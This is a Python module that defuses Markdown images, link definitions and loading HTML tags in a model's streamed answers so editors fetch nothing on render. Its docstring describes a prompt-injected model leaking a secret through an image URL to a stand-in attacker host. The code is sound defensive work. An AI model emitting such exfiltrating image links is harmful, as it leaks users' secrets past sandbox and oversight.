"""The model's Markdown, made unable to fetch anything when an editor renders it.

A prompt-injected model can answer `![x](https://attacker.example/p?d=<a secret it read>)`:
Zed and VS Code render the answer as Markdown and fetch the image, so the secret leaves with
no tool call and no question, even with the sandbox's network off. Every image is shown as
its text instead (`![` becomes `!\\[`, which a renderer draws as `![`), whatever its
address: a `data:` URI or a workspace path fetches nothing remote, but telling them apart
means parsing a destination the way each renderer does (entities, escapes, `//host`), and
an image the model shows from the workspace is not worth that risk. Likewise:

- a link reference definition (`[1]: https://…`, which a `![x][1]` anywhere in the message
  would load) has its `[` escaped, so it is text;
- a raw HTML tag that loads (`<img>`, `<picture>`, `<video>`, …, or any tag with a `src`,
  `srcset`, `href`, `style`, `background`, `poster` or `data` attribute) has its `<`
  escaped; at a line's start every tag is (an HTML block would change what is code);
- nothing inside a fenced code block is touched: there nothing renders. Where a fence's
  end is a guess (one opened indented, maybe in a list item; a flush inside one), no later
  fence is trusted: the rest is escaped like prose (a backslash in code, not an image).

Each rule errs towards escaping: a construct cut short by the end of the stream, or longer
than `CAP` while undecided, is escaped; an escaped construct looks the same once rendered.
It streams: only the characters that may start a construct are held back (from a `!`, a
`<`, a line's first few characters), and `flush` lets them go when something else is sent.
"""

from __future__ import annotations

from hermes_acp.bridge.markdown_verdicts import (
    CAP,
    CONTAINER,
    ESCAPE,
    KEEP,
    MARKER_SO_FAR,
    NEED,
    SPECIAL,
    definition,
    image,
    inline_tag,
    line_tag,
    width,
)


class ImageDefuser:
    """One stream of the model's Markdown (an answer, or its thinking), defused as it comes."""

    def __init__(self, *, after_bang: bool = False) -> None:
        # A flush let a final `!` out as it is: a client that appends what comes next would
        # read it and a `[` let out first thing as an image's start, so that `[` is escaped.
        self._after_bang = after_bang
        self._pending = ""
        self._fence: tuple[str, int, int] | None = None  # the open fence: char, length, indent
        self._opener: tuple[str, int, int] | None = None  # this line may open one
        self._opener_tainted = False  # a backtick after a ``` opener: not a fence
        self._line_start = True
        self._fence_allowed = True
        self._in_fence_line = False
        # This fence line began with a closing run (its indent): it closes if only blanks follow.
        self._closing: int | None = None
        # False once where a fence ends is a guess (a flush inside one, a list it may be in
        # ended): a fence this side took for opened may be the one a renderer closes, and
        # what follows would pass as code. From then on no fence is opened: all is escaped.
        self._trust_fences = True
        self._ended_line = True  # the last character let out was a newline
        self._flushed = True  # nothing fed since the last flush: flushing again does nothing

    def feed(self, text: str) -> str:
        """What of the stream so far may be sent now."""
        self._flushed = False
        quiet = not (self._pending or self._line_start or self._closing is not None or self._after_bang)
        if quiet and not SPECIAL.search(text):
            # Most deltas: words inside a line, nothing that could start a construct.
            self._ended_line = self._ended_line and not text
            return text
        self._pending += text
        return self._run(final=False)

    def flush(self) -> str:
        """The rest, undecided constructs escaped; what follows is read as a new message
        (what a client that starts a new block there sees). Outside any fence then, the
        safe side for one that appends instead; a fence may open on its first line only if
        the text sent so far ended a line, as in both readings."""
        if self._flushed:
            return ""
        self._flushed = True
        out = self._run(final=True) if self._pending else ""
        if self._fence is not None or self._opener is not None or not self._ended_line:
            # (mid-line, the two readings differ on whether the next line can open one)
            self._trust_fences = False
        self._fence = self._opener = None
        self._in_fence_line = False
        self._closing = None
        self._line_start = True
        self._fence_allowed = self._ended_line
        return out

    def next_message(self) -> ImageDefuser:
        """A defuser for the stream's next message (a new turn's answer), which a client may
        append to this one's: it knows only whether this one ended with a bare `!`."""
        return ImageDefuser(after_bang=self._after_bang)

    def _run(self, *, final: bool) -> str:
        s = self._pending
        out: list[str] = []
        after_bang, self._after_bang = self._after_bang, False  # set again by a final `!`
        i = 0
        while i < len(s):
            i, waiting = self._step(s, i, final, out)
            if waiting:
                break
        self._pending = s[i:]
        text = "".join(out)
        if after_bang and text.startswith("["):
            text = "\\" + text
        elif after_bang and not text:
            self._after_bang = True  # nothing let out yet
        if text:
            self._ended_line = text.endswith("\n")
        return text

    def _step(self, s: str, i: int, final: bool, out: list[str]) -> tuple[int, bool]:
        """Let out what starts at `i`; the next position, or None to wait for more."""
        if self._in_fence_line:
            ends = [e for e in (s.find("\n", i), s.find("\r", i)) if e >= 0]
            end = min(ends) if ends else len(s)
            if self._closing is not None and s[i:end].strip(" \t"):
                self._closing = None  # text after the run: not a closing fence
            if end == len(s):
                out.append(s[i:])
                return len(s), False
            out.append(s[i : end + 1])
            self._in_fence_line = False
            self._line_start = self._fence_allowed = True
            if self._closing is not None:
                self._close_fence(self._closing)
            return end + 1, False
        if self._line_start:
            return self._fence_line(s, i, final, out) if self._fence else self._new_line(s, i, final, out)
        return self._inline(s, i, final, out)

    def _fence_line(self, s: str, i: int, final: bool, out: list[str]) -> tuple[int, bool]:
        assert self._fence is not None
        char, length, indent = self._fence
        j = i
        while j < len(s) and s[j] in " \t":
            j += 1
        k = j
        while k < len(s) and s[k] == char:
            k += 1
        if k == len(s) and not final:
            return i, True
        self._line_start = False
        self._in_fence_line = True
        indent_width = width(s[i:j])
        if k - j >= length:  # closes it if only blanks follow (seen at the line's end)
            self._closing = indent_width
            out.append(s[i:k])
            return k, False
        if j < len(s) and s[j] not in "\n\r" and indent_width < indent:
            # A list the fence may be in ended with this line, and the fence with it; or the
            # fence was not in one, and this is code. Taken as ended, and fences no longer
            # trusted: escaping code costs a backslash, the other guess an image.
            self._fence, self._trust_fences = None, False
            self._in_fence_line = False
            self._line_start = True
        return i, False

    def _close_fence(self, width: int) -> None:
        """A closing run with only blanks after it, `width` in. A fence opened at the line's
        start is in no list: up to three spaces in, it closes it. One opened further in may
        be in a list item, whose indent (unknown here) decides whether the run closes it, is
        code, or ends the item and opens a new fence: taken as closed, and fences no longer
        trusted."""
        assert self._fence is not None
        self._closing = None
        if self._fence[2] > 0:
            self._fence, self._trust_fences = None, False
        elif width <= 3:
            self._fence = None

    def _new_line(self, s: str, i: int, final: bool, out: list[str]) -> tuple[int, bool]:
        j = i
        while j < len(s) and j - i < 3 and s[j] == " ":
            j += 1
        if j < len(s) and s[j] in "`~":
            k = j
            while k < len(s) and s[k] == s[j]:
                k += 1
            if k == len(s) and not final:
                return i, True
            if k - j >= 3 and self._fence_allowed and self._trust_fences:
                out.append(s[i:k])
                self._opener, self._opener_tainted = (s[j], k - j, j - i), False
                self._line_start = False
                return k, False
        elif j == len(s) and not final:
            return i, True
        prefix = CONTAINER.match(s, i)
        p = prefix.end() if prefix else i
        rest = s[p : p + 12]
        if not final and p - i < CAP and (rest == "" or MARKER_SO_FAR.fullmatch(rest)):
            return i, True
        if p < len(s) and s[p] == "[":
            verdict = definition(s, p + 1, final)
        elif p < len(s) and s[p] == "<":  # (in an HTML block a backslash escapes nothing)
            verdict = line_tag(s, p + 1, final)
        else:
            verdict = KEEP
        if verdict == NEED:
            return i, True
        self._line_start = False
        out.append(s[i:p])
        if verdict == ESCAPE:
            out.append("\\" + s[p])
            return p + 1, False
        return p, False

    def _inline(self, s: str, i: int, final: bool, out: list[str]) -> tuple[int, bool]:
        match = SPECIAL.search(s, i)
        if match is None:
            out.append(s[i:])
            return len(s), False
        q = match.start()
        out.append(s[i:q])
        c = s[q]
        if c in "\n\r":  # CommonMark ends a line at `\r` too: a lone one starts a new line
            if self._opener is not None and not (self._opener[0] == "`" and self._opener_tainted):
                self._fence = self._opener
            self._opener = None
            out.append(c)
            self._line_start = self._fence_allowed = True
            return q + 1, False
        if c == "`":
            self._opener_tainted = True
            out.append(c)
            return q + 1, False
        if q + 1 == len(s) and c in "\\!<":
            if not final:
                return q, True
            # The last character before a flush: a client that appends what comes next
            # would read `!` and a later `[x](u)` as an image, `<` and `img …>` as a tag,
            # and `\` and our `\<` as a backslash and a tag. `<` and `\` are escaped (each
            # draws the same); a `!` (most often an answer's last, "Done!") is sent as it is,
            # and the `[` let out right after it escaped instead (`_after_bang`).
            if c == "!":
                out.append(c)
                self._after_bang = True
            else:
                out.append("\\" + c)
            return q + 1, False
        if c == "\\":
            if s[q + 1] in "\n\r":
                out.append(c)
                return q + 1, False
            self._opener_tainted = self._opener_tainted or s[q + 1] == "`"
            out.append(s[q : q + 2])
            return q + 2, False
        verdict = image(s, q + 1, final) if c == "!" else inline_tag(s, q + 1, final)
        if verdict == NEED:
            return q, True
        if verdict == KEEP:
            out.append(c)
            return q + 1, False
        if c == "!":
            out.append("!\\[")
            return q + 2, False
        out.append("\\<")
        return q + 1, False


def defuse(text: str) -> str:
    """A whole text (a stored answer shown again), defused."""
    defuser = ImageDefuser()
    return defuser.feed(text) + defuser.flush()
